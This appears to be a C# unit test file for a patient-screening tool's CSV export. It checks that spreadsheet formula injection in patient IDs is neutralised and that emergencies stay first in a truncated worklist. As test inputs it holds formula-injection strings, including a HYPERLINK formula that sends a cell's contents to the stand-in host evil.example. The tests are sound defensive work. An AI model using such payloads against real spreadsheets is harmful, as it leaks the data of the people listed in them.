namespace MsRelapse.Screening.Tests;

/// <summary>
/// What a quality lead opens: patients.csv in a spreadsheet (no cell runs as a formula) and the report's worklist
/// (when cut to the page's length, emergencies are kept first).
/// </summary>
public sealed class SpreadsheetSafetyTests
{
    private static PatientRow Row(string id, string urgency = "urgent") =>
        new(id, "relapse", "moderate", "plasma-exchange", urgency, "inadequate", new DateOnly(2026, 4, 20), -3, ["fever"], null);

    private static string[] Cells(string id)
    {
        using var writer = new StringWriter();
        ScreenResultMerger.WriteCsv([Row(id)], writer);
        var line = writer.ToString().Split('\n')[1];
        return line.StartsWith('"') ? [line[..(line.IndexOf("\",", 1, StringComparison.Ordinal) + 1)]] : line.Split(',');
    }

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+1", "'+1")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(1+1)", "'@SUM(1+1)")]
    [InlineData("\tcmd", "'\tcmd")]
    public void A_patient_id_a_spreadsheet_would_run_as_a_formula_is_written_as_text(string id, string written)
    {
        Assert.Equal(written, Cells(id)[0]);
    }

    [Fact]
    public void A_formula_with_commas_and_quotes_is_neutralised_and_quoted()
    {
        using var writer = new StringWriter();
        ScreenResultMerger.WriteCsv([Row("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")")], writer);
        Assert.StartsWith("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",relapse,", writer.ToString().Split('\n')[1], StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("-5f3a")] // a valid FHIR id may start with '-': kept exactly, so that it still joins with the source
    [InlineData("pat-001")]
    [InlineData("9a1b.2")]
    public void A_valid_fhir_id_is_written_exactly(string id)
    {
        Assert.Equal(id, Cells(id)[0]);
    }

    [Fact]
    public void A_negative_number_of_days_stays_a_number()
    {
        Assert.Equal("-3", Cells("p1")[7]);
    }

    [Fact]
    public void The_worklist_keeps_emergencies_when_it_is_longer_than_the_page()
    {
        var urgent = Enumerable.Range(0, ScreenReport.WorklistLimit + 10).Select(i => Row($"a{i:D5}"));
        var late = new[] { Row("zz-emergency-1", "emergency"), Row("zz-emergency-2", "emergency") };

        var shown = ScreenReport.WorklistShown([.. urgent, .. late]).ToList();

        Assert.Equal(ScreenReport.WorklistLimit, shown.Count);
        Assert.Equal(["zz-emergency-1", "zz-emergency-2"], shown.Take(2).Select(r => r.PatientId));
        Assert.Equal("a00000", shown[2].PatientId);
        Assert.DoesNotContain(shown, r => r.PatientId == $"a{ScreenReport.WorklistLimit - 1:D5}"); // the cut falls on urgent rows
    }

    [Fact]
    public void Flags_and_fixed_vocabularies_are_untouched()
    {
        var cells = Cells("p1");
        Assert.Equal(["p1", "relapse", "moderate", "plasma-exchange", "urgent", "inadequate", "2026-04-20", "-3", "fever", ""], cells);
    }
}
